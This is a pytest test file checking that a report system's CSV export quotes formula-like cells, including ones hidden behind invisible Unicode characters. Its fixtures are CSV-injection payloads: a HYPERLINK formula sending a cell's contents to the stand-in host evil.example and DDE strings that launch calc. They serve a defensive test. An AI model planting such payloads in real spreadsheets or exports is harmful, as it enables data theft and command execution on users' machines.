"""CSV for spreadsheets: no cell is run as a formula; the officer export read back by csv."""

from __future__ import annotations

import csv
import io

import pytest

from feedback import actions
from feedback.csvsafe import neutralise, spreadsheet_csv
from feedback.extensions import db
from feedback.models import Account, Report
from tests.feedback.conftest import BINYANG

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "  =1+1",
    "\u3000=1+1",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_cells_get_a_quote(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["宾环罚〔2026〕3号", "a=b", "GX2026112300042", "", "1-2", "'="])
def test_ordinary_cells_unchanged(value):
    assert neutralise(value) == value


def test_numbers_stay_numbers():
    assert neutralise(-5) == -5 and neutralise(None) is None


def test_spreadsheet_csv_reads_back_with_quotes_only_where_needed():
    text = spreadsheet_csv(["列"], [["=1+1"], ["正常"], [3]])
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows == [["列"], ["'=1+1"], ["正常"], ["3"]]


def _file_formula_case(app, make_report, value: str) -> str:
    number, _ = make_report(unit=BINYANG, place=value, description=value)
    with app.app_context():
        report = db.session.query(Report).filter_by(tracking_number=number).one()
        boss = db.session.query(Account).filter_by(login="binyang-boss").one()
        actions.moderate(report, boss, value, "审核", "place")
        report.penalty_number = value
        db.session.commit()
    return number


@pytest.mark.parametrize("value", ["=1+2", "＋cmd|' /C calc'!A0", "@SUM(A1)", "\t-3"])
def test_officer_export_has_no_live_formula(client, officer, app, make_report, value):
    number = _file_formula_case(app, make_report, value)
    officer.login("binyang")
    response = client.get("/officer/export.csv")
    assert response.headers["Content-Disposition"].startswith("attachment")
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    row = next(r for r in rows if r[0] == number)
    for cell in row:
        first = cell.lstrip(" \u3000")[:1]
        assert first not in "=+-@\t\r＝＋－＠" or cell == "", cell
    assert row[-1] == "'" + value


#: Formula signs behind blanks and invisible characters an officer cannot see in a text.
HIDDEN_LEAD = [
    "\u2000=1+1",
    "\u2003+cmd|' /C calc'!A0",
    "\u200b=1+1",
    "\ufeff@SUM(1)",
    "\u200e\u200f-2+3",
    "\u2028=1",
    "\u202e＝1",
    "\u00a0\u200b\t=1",
]


@pytest.mark.parametrize("value", HIDDEN_LEAD)
def test_formula_behind_invisible_characters_gets_a_quote(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["\u200b正常", "\u2000a=b", "-5", "\u200b"])
def test_invisible_characters_alone_change_nothing(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("value", ["\u200b=cmd|' /C calc'!A0", "\ufeff+1+1"])
def test_officer_export_quotes_a_formula_behind_invisible_characters(
    client, officer, app, make_report, value
):
    number = _file_formula_case(app, make_report, value)
    officer.login("binyang")
    rows = list(csv.reader(io.StringIO(client.get("/officer/export.csv").get_data(as_text=True))))
    row = next(r for r in rows if r and r[0].lstrip("\ufeff") == number)
    assert row[-1] == "'" + value
